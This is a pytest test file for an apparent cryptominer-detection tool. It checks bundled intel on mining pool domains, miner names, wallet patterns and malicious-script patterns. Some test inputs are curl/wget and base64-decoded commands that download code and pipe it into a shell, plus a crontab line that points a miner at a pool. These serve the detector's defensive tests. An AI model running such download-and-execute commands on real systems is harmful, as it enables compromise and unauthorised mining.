"""The bundled intel loads, its patterns are precise, and local lists extend it."""

from __future__ import annotations

import hashlib
import os
import re
from pathlib import Path

import pytest

from minehunt.intel import IntelError, load, read_domain_list
from minehunt.model import Severity
from tests.conftest import run_cli
from tests.support.launch import TEST_WALLET


def test_bundled_intel_is_substantial() -> None:
    i = load(use_user_dir=False)
    assert len(i.pool_domains) >= 200
    assert {"xmrig", "xmr-stak", "cpuminer", "t-rex", "lolminer", "nbminer"} <= i.miner_names
    assert {3333, 4444, 14444} <= i.mining_ports
    assert not {443, 80, 22, 8080, 5432, 6379} & (i.mining_ports | i.tls_ports)
    assert "stratum+tcp" in i.schemes and "stratum+ssl" in i.schemes
    assert {c.name for c in i.campaigns} >= {"Kinsing", "TeamTNT", "Outlaw", "WatchDog"}


def test_pool_domain_matching_is_suffix_based_and_local() -> None:
    i = load(use_user_dir=False)
    assert i.pool_domain("pool.supportxmr.com") == "supportxmr.com"
    assert i.pool_domain("xmr-eu1.nanopool.org")
    assert i.pool_domain("github.com") is None
    assert i.pool_domain("notsupportxmr.com") is None


def test_wallet_patterns_are_precise() -> None:
    i = load(use_user_dir=False)
    assert [p.name for p, w in i.find_wallets(f"-u {TEST_WALLET}") if w == TEST_WALLET]
    digest = hashlib.sha256(b"x").hexdigest()
    assert not [p for p, _ in i.find_wallets(digest) if p.confidence != "low"]
    b64 = "QWxhZGRpbjpvcGVuIHNlc2FtZQ" * 4
    assert not [p for p, _ in i.find_wallets(b64) if p.confidence == "high"]


def test_script_patterns() -> None:
    i = load(use_user_dir=False)

    def kinds(line: str) -> set[str]:
        return {k for k, _ in i.script_hits(line)}

    assert "download_and_run" in kinds("curl -fsSL http://1.2.3.4/x.sh | sh")
    assert "download_and_run" in kinds("wget -q -O- http://x/y | bash")
    assert "download_and_run" in kinds("echo Y3VybA== | base64 -d | bash")
    assert not kinds("curl -o file.tar.gz https://example.com/file.tar.gz")
    assert not kinds("apt-get install curl")


def test_domain_list_formats() -> None:
    text = "# comment\n0.0.0.0 a.example b.example\n||c.example^\nd.example\n! adblock comment\n"
    assert read_domain_list(text) == ["a.example", "b.example", "c.example", "d.example"]


def test_intel_update_extends_detection(tmp_path: Path) -> None:
    hosts = tmp_path / "blocklist.txt"
    hosts.write_text("0.0.0.0 pool.corp-miner.example\n")
    env = {"MINEHUNT_INTEL_DIR": str(tmp_path / "intel")}
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc/crontab").write_text("* * * * * root /opt/x -o pool.corp-miner.example:80\n")

    before = run_cli("scan", "host", "--root", str(root), "--format", "json", env=env)
    assert before.code == 0 and not before.report.findings

    r = run_cli("intel", "update", "--from", str(hosts), env=env)
    assert r.code == 0 and "added 1" in r.stdout
    shown = run_cli("intel", "show", "pools", env=env)
    assert "pool.corp-miner.example" in shown.stdout.split()

    after = run_cli("scan", "host", "--root", str(root), "--format", "json", env=env)
    assert after.code == 1
    (f,) = after.report.findings
    assert f.check_id == "MH-PERS-002" and f.severity >= Severity.HIGH
    assert f.target.path == "/etc/crontab"


def test_broken_local_intel_is_a_clear_usage_error(tmp_path: Path) -> None:
    d = tmp_path / "intel"
    d.mkdir()
    (d / "intel.toml").write_text("[scripts]\ndownload_and_run = ['(unclosed']\n")
    r = run_cli("scan", "host", "--root", str(tmp_path), env={"MINEHUNT_INTEL_DIR": str(d)})
    assert r.code == 2
    assert "bad regex" in r.stderr and "Traceback" not in r.stderr
    assert re.search(r"intel\.toml", r.stderr)
    assert os.path.exists(d / "intel.toml")


def test_every_bundled_script_and_path_pattern_compiles() -> None:
    """Bundled patterns are compiled when first used, not at load: each must compile."""
    intel = load(use_user_dir=False)
    for kind in intel.scripts:
        assert all(isinstance(p, re.Pattern) for p in intel.scripts[kind])
    for rx in intel.web_script_paths:
        re.compile(rx)


def test_a_user_script_pattern_that_does_not_compile_is_refused_at_load(tmp_path: Path) -> None:
    (tmp_path / "intel.toml").write_text("[scripts]\ndownload = ['curl (']\n")
    with pytest.raises(IntelError, match="bad regex"):
        load(tmp_path, use_user_dir=False)
